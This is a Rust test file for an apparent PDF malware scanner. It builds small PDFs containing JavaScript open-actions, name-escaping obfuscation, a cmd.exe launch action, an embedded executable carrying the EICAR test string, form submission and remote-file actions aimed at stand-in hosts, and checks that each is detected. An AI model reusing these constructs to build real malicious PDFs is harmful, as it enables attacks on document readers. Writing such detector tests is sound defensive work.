//! Small files made here.

mod encrypted;
mod work;

use std::io::Write as _;

use super::super::tests::{codes, examine, policy};
use crate::inspect::inspector::Examiner;

fn flate(data: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    out.write_all(data).unwrap();
    out.finish().unwrap()
}

fn stream(head: &str, data: &[u8]) -> Vec<u8> {
    [format!("<<{head}/Length {}>>\nstream\n", data.len()).as_bytes(), data, b"\nendstream"].concat()
}

fn file(objects: &[&[u8]]) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n".to_vec();
    for (i, object) in objects.iter().enumerate() {
        out.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
        out.extend_from_slice(object);
        out.extend_from_slice(b"\nendobj\n");
    }
    out.extend_from_slice(b"trailer <</Root 1 0 R>>\n%%EOF\n");
    out
}

#[test]
fn iso32000_12_6_actions_are_found_in_every_disguise() {
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let examiner = Examiner::new(&loaded);
    let in_stream = |object: &str| {
        let body = format!("9 0 {object}");
        stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", &flate(body.as_bytes()))
    };
    let eicar = concat!("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");
    let hexed: String = flate(eicar.as_bytes()).iter().map(|b| format!("{b:02x}")).collect();
    let cases: Vec<(Vec<u8>, &[&str], &[&str])> = vec![
        (
            file(&[
                b"<</Type/Catalog/OpenAction 2 0 R>>",
                b"<</S/JavaScript/JS(app.launchURL('http://bad.example/'))>>",
            ]),
            &["pdf.javascript", "pdf.open-action", "pdf.script-suspicious"],
            &[],
        ),
        (
            file(&[
                b"<</Type/Catalog/OpenAction<</S/J#61vaScript/J#53 2 0 R>>>>",
                &stream("/Filter/FlateDecode", &flate(b"this.exportDataObject({cName:'x',nLaunch:2})")),
            ]),
            &["pdf.hidden-name", "pdf.javascript", "pdf.script-suspicious"],
            &[],
        ),
        (file(&[b"<</Type/Catalog>>", &in_stream("<</S/Launch/F(cmd.exe)>>")]), &["pdf.launch"], &[]),
        (
            file(&[
                b"<</Type/Catalog/Names<</EmbeddedFiles 2 0 R>>>>",
                b"<</Type/Filespec/UF(run.exe)/EF<</F 3 0 R>>>>",
                &stream("/Type/EmbeddedFile/Filter[/ASCIIHexDecode/FlateDecode]", hexed.as_bytes()),
            ]),
            &["malware.eicar", "pdf.embedded-program"],
            &[],
        ),
        (
            [&[b'x'; 900], &file(&[b"<</AA<</O<</S/SubmitForm/F(http://bad.example/)>>>>>>"])[..]].concat(),
            &["pdf.submit-form", "pdf.open-action"],
            &[],
        ),
        (file(&[b"<</S/GoToR/F(\\\\\\\\bad.example\\\\x)>>"]), &["pdf.remote-file"], &[]),
        (
            file(&[
                b"<</Type/Catalog/OpenAction[2 0 R/Fit]>>",
                b"<</Type/Page/A<</S/URI/URI(https://good.example/)>>>>",
            ]),
            &[],
            &["pdf."],
        ),
        (
            file(&[b"<</Type/Catalog>>"]).iter().copied().chain(*b"trailer<</Encrypt 5 0 R>>").collect(),
            &["pdf.encrypted"],
            &[],
        ),
    ];
    for (i, (body, wanted, unwanted)) in cases.into_iter().enumerate() {
        let found = codes(&examine(&examiner, "a.pdf", "application/pdf", &body));
        for code in wanted {
            assert!(found.iter().any(|c| c == code), "{i}: no {code} in {found:?}");
        }
        for code in unwanted {
            assert!(!found.iter().any(|c| c.starts_with(code)), "{i}: {code} in {found:?}");
        }
    }
}

#[test]
fn links_and_text_of_pages_are_read() {
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let page = stream("/Filter/FlateDecode", &flate(b"BT /F1 12 Tf (go to http://bad.ex) Tj (ample/pay now) Tj ET"));
    let body = file(&[b"<</S/URI/URI(http://other.example/a)>>", &page]);
    let facts = examine(&Examiner::new(&loaded), "a.pdf", "application/pdf", &body);
    for url in ["http://bad.example/pay", "http://other.example/a"] {
        assert!(facts.urls.iter().any(|u| u == url), "{url}: {:?}", facts.urls);
    }
}

#[test]
fn depth_and_loops_cost_nothing() {
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let examiner = Examiner::new(&loaded);
    for body in [
        file(&["[".repeat(200_000).as_bytes()]),
        file(&["<</A".repeat(50_000).as_bytes()]),
        file(&["(".repeat(200_000).as_bytes()]),
        "1 0 obj ".repeat(50_000).into_bytes(),
        [b"%PDF-1.7 ".as_slice(), "1 0 obj (".repeat(50_000).as_bytes()].concat(),
    ] {
        examine(&examiner, "a.pdf", "application/pdf", &body);
    }
}

#[test]
fn iso32000_7_6_files_that_need_no_password_are_opened() {
    use base64::Engine as _;
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let examiner = Examiner::new(&loaded);
    for (method, coded) in encrypted::FILES {
        let body = base64::engine::general_purpose::STANDARD.decode(coded).unwrap();
        let facts = examine(&examiner, "a.pdf", "application/pdf", &body);
        let found = codes(&facts);
        assert!(found.contains(&"pdf.script-suspicious".to_owned()), "{method}: {found:?}");
        assert!(!found.contains(&"pdf.encrypted".to_owned()), "{method}: {found:?}");
        assert!(facts.urls.iter().any(|u| u.contains(method)), "{method}: {:?}", facts.urls);
    }
}
